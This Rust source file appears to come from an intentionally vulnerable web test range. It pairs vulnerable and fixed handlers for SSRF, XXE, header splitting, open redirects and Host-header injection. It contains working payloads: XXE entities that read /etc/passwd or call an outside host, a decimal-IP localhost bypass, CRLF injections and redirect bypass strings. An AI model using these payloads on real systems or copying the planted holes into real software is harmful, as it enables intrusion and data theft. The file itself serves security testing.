//! Requests that the server makes, XML entities, split headers, redirects, and the Host header.

use super::HALF;
use crate::case::Place::{Cookie, Form, Header, Json, Page, Path, Query, QueryForm, Xml};
use crate::case::{Case, Family, Hit};
use crate::engine::{files, xml};
use crate::filter::{Filter, html};
use crate::http::Reply;
use crate::http::client::fetch;
use crate::proof::{Proof, Prover, shows};
use crate::world::{INTRANET_SECRET, World};

fn preview(url: &str) -> Reply {
    match fetch(url) {
        Ok(answer) => Reply::html(format!("<pre>{}</pre>", html(&answer.text()))),
        Err(error) => Reply::html(format!("<p>Could not load: {}</p>", html(&error))),
    }
}

/// Fetches and says nothing of what came.
fn silently(url: &str) -> Reply {
    // Whatever comes is thrown away.
    let _ = fetch(url);
    Reply::html("<p>Thank you, your hook will be called.</p>")
}

fn reaches_intranet(p: &Prover<'_>) -> Result<bool, String> {
    let url = format!("http://{}/admin", p.range.world().intranet());
    Ok(p.value(&url)?.text().contains(INTRANET_SECRET))
}

pub(super) fn ssrf() -> Vec<Case> {
    let mut f = Family::new("ssrf", HALF, &[150258], &[918]);
    f.sample("http://localhost/logo.svg");
    let inside = || Proof::Steps(reaches_intranet);
    let calls = |value: &str| Proof::Calls(value.to_owned());
    f.bad(
        "preview",
        Query("url"),
        "any address is fetched and shown, also internal ones",
        inside(),
        |_, h| preview(&h.value),
    );
    f.bad("preview-form", Form("link"), "the same in a form", inside(), |_, h| preview(&h.value));
    f.bad("blind-hook", Form("hook"), "any address is fetched, nothing is shown", calls("{u}"), |_, h| {
        silently(&h.value)
    });
    f.bad("blind-json", Json("hook.url"), "the same in a JSON body", calls("{u}"), |_, h| silently(&h.value));
    f.bad(
        "blind-referer",
        Header("Referer"),
        "the page one came from is fetched for statistics",
        calls("{u}"),
        |_, h| silently(&h.value),
    );
    f.bad(
        "host-and-path",
        QueryForm("host"),
        "the value is the host, the path is added",
        calls("{u}#"),
        |_, h| preview(&format!("http://{}/status", h.value.trim_start_matches("http://"))),
    )
    .sample("localhost");
    f.bad(
        "refuses-names",
        Query("url"),
        "localhost and 127.0.0.1 are refused, other ways to write them are not",
        Proof::Steps(|p| {
            let address = p.range.world().intranet();
            Ok(p.value(&format!("http://2130706433:{}/admin", address.port()))?
                .text()
                .contains(INTRANET_SECRET))
        }),
        |_, h| preview(&h.value),
    )
    .filter(Filter::Refuse(&["localhost", "127.0.0.1", "::1"]))
    .sample("http://10.1/logo.svg");
    f.bad("xml-address", Xml("callback"), "an address in an XML body is fetched", calls("{u}"), |_, h| {
        silently(&h.value)
    });
    f.good(
        "known-hosts",
        Query("url"),
        "only addresses that begin with a known host and a slash are fetched",
        calls("{u}"),
        |_, h| {
            // A known host begins the address, and nothing but a path may follow.
            if h.value.starts_with("http://images.example.test/") {
                silently(&h.value)
            } else {
                Reply::refused("That host is not known.")
            }
        },
    );
    f.good("only-stored", Form("hook"), "the address is stored, not fetched", calls("{u}"), |_, h| {
        Reply::html(format!("<p>Stored {}</p>", html(&h.value)))
    });
    f.good(
        "identifier",
        Query("image"),
        "the value is a number under which the address is known",
        calls("{u}"),
        |_, h| Reply::html(format!("<p>Image {}</p>", h.value)),
    )
    .filter(Filter::Digits)
    .sample("7");
    f.cases()
}

/// Loads what entities name: files of the tree, and loopback addresses.
pub(crate) fn loads(w: &World, url: &str) -> Result<String, String> {
    match url.split_once(':') {
        Some(("http", _)) => fetch(url).map(|answer| answer.text()),
        Some(("file", rest)) => files::read(&w.files(), "/", rest.trim_start_matches("//")),
        _ => files::read(&w.files(), "/var/www/app", url),
    }
}

/// A call that takes XML: shows the element or not, and errors or not.
pub(crate) fn takes_xml(
    element: &'static str,
    external: bool,
    shown: bool,
    errors: bool,
) -> impl Fn(&World, &Hit<'_>) -> Reply + Send + Sync {
    move |w, h| {
        if h.request.method != "POST" {
            return Reply::html(format!(
                "<button id=\"go\">Send</button><script>document.getElementById('go').addEventListener('click', function () {{ fetch('{}', {{ method: 'POST', headers: {{ 'Content-Type': 'application/xml' }}, body: '<?xml version=\"1.0\"?><order><{element}>apple</{element}><count>1</count></order>' }}); }});</script>",
                h.base()
            ));
        }
        let load = |url: &str| loads(w, url);
        let options = xml::Options {
            doctype: external,
            external: if external { Some(&load) } else { None },
            include: false,
        };
        match xml::parse(&h.request.text(), &options) {
            Ok(root) if shown => Reply::html(format!(
                "<p>Ordered: {}</p>",
                html(&root.find(element).map(xml::Element::text).unwrap_or_default())
            )),
            Ok(_) => Reply::html("<p>Ordered.</p>"),
            Err(error) if errors => {
                Reply::html(format!("<p class=\"error\">XML error: {}</p>", html(&error))).with_status(400)
            }
            Err(_) => Reply::refused("That is no order."),
        }
    }
}

pub(crate) fn reads_file(p: &Prover<'_>) -> Result<bool, String> {
    let mut read = false;
    for element in ["item", "name", "title"] {
        let body = format!(
            "<?xml version=\"1.0\"?><!DOCTYPE o [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><order><{element}>&x;</{element}></order>"
        );
        read |=
            p.send("POST", "", &[("Content-Type", "application/xml")], &body)?.text().contains("root:x:0:0:");
    }
    Ok(read)
}

/// Whether the parser fetches what an entity (general or parameter) names.
pub(crate) fn fetches_entity(p: &Prover<'_>) -> Result<bool, String> {
    let before = p.range.world().seen_outside().len();
    let outside = p.range.world().outside();
    let mark = crate::world::token();
    for body in [
        format!(
            "<?xml version=\"1.0\"?><!DOCTYPE o [<!ENTITY x SYSTEM \"http://{outside}/{mark}\">]><order><item>&x;</item></order>"
        ),
        format!(
            "<?xml version=\"1.0\"?><!DOCTYPE o [<!ENTITY % x SYSTEM \"http://{outside}/{mark}\"> %x;]><order><item>a</item></order>"
        ),
    ] {
        p.send("POST", "", &[("Content-Type", "application/xml")], &body)?;
    }
    Ok(p.range.world().seen_outside().iter().skip(before.min(1)).any(|line| line.contains(&mark))
        || p.range.world().seen_outside().iter().any(|line| line.contains(&mark)))
}

pub(super) fn xxe() -> Vec<Case> {
    let mut f = Family::new("xxe", HALF, &[150258, 150011], &[611, 918, 827]);
    let file = || Proof::Steps(reads_file);
    let call = || Proof::Steps(fetches_entity);
    f.bad(
        "shown",
        Page,
        "external entities are resolved and the text is shown",
        file(),
        takes_xml("item", true, true, true),
    );
    f.bad("shown-quiet", Page, "the same without errors", file(), takes_xml("name", true, true, false));
    f.bad(
        "blind",
        Page,
        "external entities are resolved, nothing is shown",
        call(),
        takes_xml("item", true, false, false),
    );
    f.bad("upload", Page, "an uploaded XML file is read with external entities", Proof::Steps(|p| {
        let body = "--range\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.xml\"\r\nContent-Type: text/xml\r\n\r\n<!DOCTYPE o [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><o><item>&x;</item></o>\r\n--range--\r\n";
        Ok(p.send("POST", "", &[("Content-Type", "multipart/form-data; boundary=range")], body)?.text().contains("root:x:0:0:"))
    }), |w, h| {
        if h.request.method != "POST" {
            return Reply::html("<form method=\"post\" enctype=\"multipart/form-data\"><input type=\"file\" name=\"file\" accept=\".xml\"><button>Import</button></form>");
        }
        let load = |url: &str| loads(w, url);
        let options = xml::Options { doctype: true, external: Some(&load), include: false };
        let text = h.request.parts().first().map(|part| String::from_utf8_lossy(&part.content).into_owned()).unwrap_or_default();
        match xml::parse(&text, &options) {
            Ok(root) => Reply::html(format!("<p>Imported {}</p>", html(&root.text()))),
            Err(error) => Reply::refused(&html(&error)),
        }
    });
    f.bad(
        "form-field",
        Form("xml"),
        "a field of a form holds XML, read with external entities",
        shows("<!DOCTYPE o [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><o>&x;</o>", "root:x:0:0:"),
        |w, h| {
            let load = |url: &str| loads(w, url);
            match xml::parse(&h.value, &xml::Options { doctype: true, external: Some(&load), include: false })
            {
                Ok(root) => Reply::html(format!("<p>{}</p>", html(&root.text()))),
                Err(error) => Reply::refused(&html(&error)),
            }
        },
    )
    .sample("<o>apple</o>");
    f.good("no-doctype", Page, "document types are refused", file(), takes_xml("item", false, true, true));
    f.good(
        "no-doctype-quiet",
        Page,
        "document types are refused, quietly",
        call(),
        takes_xml("item", false, false, false),
    );
    f.good(
        "no-external",
        Page,
        "inner entities are known, external ones are never loaded",
        file(),
        |_, h| match xml::parse(
            &h.request.text(),
            &xml::Options { doctype: true, external: None, include: false },
        ) {
            Ok(root) => Reply::html(format!("<p>Ordered: {}</p>", html(&root.text()))),
            Err(_) => Reply::html("<p>Send an order as XML.</p>"),
        },
    );
    f.cases()
}

pub(super) fn splitting() -> Vec<Case> {
    let mut f = Family::new("header-injection", HALF, &[150060], &[113, 93]);
    f.sample("en");
    let header = || Proof::Header("en\r\nX-Proof: 1".to_owned(), "x-proof", "1".to_owned());
    f.bad(
        "cookie-value",
        Query("lang"),
        "a line break in the value ends the cookie's header",
        header(),
        |_, h| {
            Reply::html("<p>Set.</p>")
                .header("Set-Cookie", format!("lang={}; HttpOnly; SameSite=Lax", h.value))
        },
    );
    f.bad("location", Query("to"), "a line break in the value ends the Location header", header(), |_, h| {
        Reply::redirect(format!("/case/header-injection/{}", h.value))
    })
    .sample("");
    f.bad(
        "own-header",
        Form("campaign"),
        "a line break ends a header of the application's own",
        header(),
        |_, h| Reply::html("<p>Thanks.</p>").header("X-Campaign", h.value.clone()),
    );
    f.bad("path", Path, "the same in the path", header(), |_, h| {
        Reply::html("<p>Item.</p>").header("X-Item", h.value.clone())
    });
    f.bad(
        "line-feed",
        Query("lang"),
        "carriage returns are removed, a line feed does as well",
        Proof::Header("en\nX-Proof: 1".to_owned(), "x-proof", "1".to_owned()),
        |_, h| {
            // A lone line feed is written as the line break that most clients take it for.
            Reply::html("<p>Set.</p>").header("X-Lang", h.value.replace('\n', "\r\n"))
        },
    )
    .filter(Filter::RemoveChars("\r"));
    f.good("removed", Query("lang"), "line breaks are removed", header(), |_, h| {
        Reply::html("<p>Set.</p>").header("X-Lang", h.value.clone())
    })
    .filter(Filter::RemoveChars("\r\n"));
    f.good("encoded", Query("to"), "the value is percent-encoded", header(), |_, h| {
        Reply::redirect(format!("/case/{}", crate::http::request::encode(&h.value)))
    })
    .sample("");
    f.good("in-body", Form("campaign"), "the value is only shown, encoded", header(), |_, h| {
        Reply::html(format!("<pre>{}</pre>", html(&h.value)))
    });
    f.cases()
}

/// Whether the answer to a value leads a browser to another site.
fn leaves(p: &Prover<'_>, value: &str) -> Result<bool, String> {
    let answer = p.value(value)?;
    let to = answer.header("location").map(str::to_owned).or_else(|| {
        let page = answer.text();
        let meta = page.split_once(";url=").and_then(|(_, rest)| rest.split('"').next().map(str::to_owned));
        meta.or_else(|| {
            page.split_once("location.href = \"")
                .and_then(|(_, rest)| rest.split('"').next().map(str::to_owned))
        })
    });
    // A browser reads backslashes as slashes and drops tabs and line breaks.
    let to = to.unwrap_or_default().replace('\\', "/").replace(['\t', '\n', '\r'], "");
    let rest =
        to.strip_prefix("http://").or_else(|| to.strip_prefix("https://")).or_else(|| to.strip_prefix("//"));
    let host = rest
        .and_then(|rest| rest.split(['/', '?', '#']).next())
        .map(|authority| authority.rsplit('@').next().unwrap_or(authority));
    Ok(host.is_some_and(|host| host == "evil.example.test"))
}

fn leaves_with_any(p: &Prover<'_>) -> Result<bool, String> {
    for value in [
        "http://evil.example.test/",
        "https://evil.example.test/",
        "//evil.example.test/",
        "/\\evil.example.test/",
        "HTTPS://evil.example.test/",
        "http://shop.example.test@evil.example.test/",
        "https://evil.example.test/shop.example.test",
        "https://evil.example.test/?shop.example.test",
    ] {
        if leaves(p, value)? {
            return Ok(true);
        }
    }
    Ok(false)
}

pub(super) fn redirect() -> Vec<Case> {
    let mut f = Family::new("redirect", HALF, &[150051], &[601]);
    f.sample("/case/redirect/");
    let away = || Proof::Steps(leaves_with_any);
    let go = |_: &World, h: &Hit<'_>| Reply::redirect(h.value.clone());
    f.bad("location", Query("next"), "any address becomes the Location", away(), go)
        .filter(Filter::RemoveChars("\r\n"));
    f.bad("form", Form("return"), "the same in a form", away(), go).filter(Filter::RemoveChars("\r\n"));
    f.bad("meta-refresh", Query("url"), "any address becomes a meta refresh", away(), |_, h| {
        Reply::raw_html(format!(
            "<!DOCTYPE html><html><head><meta http-equiv=\"refresh\" content=\"0;url={}\"></head></html>",
            html(&h.value)
        ))
    });
    f.bad("script", Query("url"), "any address becomes the script's location", away(), |_, h| {
        let to = crate::filter::script(&h.value).replace("\\u0026", "&");
        if h.value.starts_with('/') || h.value.starts_with("http") {
            Reply::html(format!("<script>location.href = {to};</script>"))
        } else {
            Reply::refused("Not an address.")
        }
    });
    f.bad(
        "must-begin-slash",
        Query("next"),
        "the address must begin with a slash; two slashes do, too",
        away(),
        |_, h| {
            if h.value.starts_with('/') {
                Reply::redirect(h.value.clone())
            } else {
                Reply::refused("Only pages of this site.")
            }
        },
    )
    .filter(Filter::RemoveChars("\r\n"));
    f.bad(
        "must-contain",
        QueryForm("to"),
        "the address must contain the shop's name, anywhere",
        away(),
        |_, h| {
            if h.value.starts_with("/case") || h.value.contains("shop.example.test") {
                Reply::redirect(h.value.clone())
            } else {
                Reply::refused("Only the shop.")
            }
        },
    )
    .sample("http://shop.example.test/basket")
    .filter(Filter::RemoveChars("\r\n"));
    f.bad("header-301", Cookie("back"), "an address in a cookie becomes the Location", away(), |_, h| {
        Reply::redirect(h.value.clone()).with_status(301)
    })
    .filter(Filter::RemoveChars("\r\n"));
    f.good(
        "local-path",
        Query("next"),
        "one slash leads, and only letters, digits and the signs of paths follow",
        away(),
        |_, h| {
            let signs = |c: char| c.is_ascii_alphanumeric() || "/-_.~?&=%".contains(c);
            let local = h.value.starts_with('/') && !h.value.starts_with("//") && h.value.chars().all(signs);
            if local { Reply::redirect(h.value.clone()) } else { Reply::redirect("/") }
        },
    )
    .filter(Filter::RemoveChars("\r\n"));
    f.good(
        "prefix",
        Query("path"),
        "the value is only a path behind the site's own address",
        away(),
        |_, h| Reply::redirect(format!("/case/{}", crate::http::request::encode(&h.value))),
    );
    f.good("known", QueryForm("to"), "only known names lead somewhere", away(), |_, h| {
        Reply::redirect(if h.value == "basket" { "/case/csrf/" } else { "/case/redirect/" })
    })
    .sample("home");
    f.good("link-page", Form("url"), "the address is only shown, as a text", away(), |_, h| {
        Reply::html(format!("<p>You are leaving for {}. Copy the address to go on.</p>", html(&h.value)))
    });
    f.cases()
}

const EVIL: &str = "evil.example.test";

fn host_in_body(p: &Prover<'_>) -> Result<bool, String> {
    for header in ["Host", "X-Forwarded-Host", "X-Host", "Forwarded"] {
        let value = if header == "Forwarded" { format!("host={EVIL}") } else { EVIL.to_owned() };
        for (method, rest) in [("GET", ""), ("POST", "reset"), ("GET", "go")] {
            let answer = p.send(
                method,
                rest,
                &[(header, &value), ("Content-Type", "application/x-www-form-urlencoded")],
                "email=a",
            )?;
            let body = answer.text();
            if body.contains(&format!("//{EVIL}"))
                || answer.header("location").is_some_and(|to| to.contains(EVIL))
            {
                return Ok(true);
            }
        }
    }
    Ok(false)
}

pub(super) fn host() -> Vec<Case> {
    let mut f = Family::new("host-header", HALF, &[], &[644, 20, 601, 348]);
    let steps = || Proof::Steps(host_in_body);
    let of = |h: &Hit<'_>, name: &str| h.request.header(name).unwrap_or("localhost").to_owned();
    f.bad("reset-link", Page, "the link to reset a password is made from the Host header", steps(), move |_, h| {
        if h.rest == "reset" {
            return Reply::html(format!("<p>We have sent: <code>http://{}/reset?token=f3a9</code></p>", html(&of(h, "host"))));
        }
        Reply::html("<form action=\"reset\" method=\"post\"><input name=\"email\" value=\"a@example.test\"><button>Reset password</button></form>")
    });
    f.bad(
        "script-source",
        Page,
        "the address of a script is made from the Host header",
        steps(),
        move |_, h| {
            Reply::html(format!(
                "<script src=\"//{}/static/app.js\"></script><p>Hello.</p>",
                html(&of(h, "host"))
            ))
        },
    );
    f.bad("forwarded-host", Page, "X-Forwarded-Host is believed from anybody", steps(), move |_, h| {
        Reply::html(format!(
            "<link rel=\"canonical\" href=\"http://{}/\"><p>Hello.</p>",
            html(&of(h, "x-forwarded-host"))
        ))
    });
    f.bad("redirect", Page, "a redirect is made from the Host header", steps(), move |_, h| match h.rest {
        "" => Reply::html("<a href=\"go\">Go</a>"),
        "go" => Reply::redirect(format!("http://{}/welcome", of(h, "host"))),
        _ => Reply::missing(),
    });
    f.good("configured", Page, "the address is configured", steps(), |_, h| {
        if h.rest == "reset" {
            return Reply::html("<p>We have sent: <code>https://shop.example.test/reset?token=f3a9</code></p>");
        }
        Reply::html("<form action=\"reset\" method=\"post\"><input name=\"email\" value=\"a@example.test\"><button>Reset password</button></form>")
    });
    f.good("relative", Page, "addresses are relative", steps(), |_, h| match h.rest {
        "" => Reply::html("<script src=\"/none.js\"></script><a href=\"go\">Go</a>"),
        "go" => Reply::redirect("/"),
        _ => Reply::missing(),
    });
    f.cases()
}
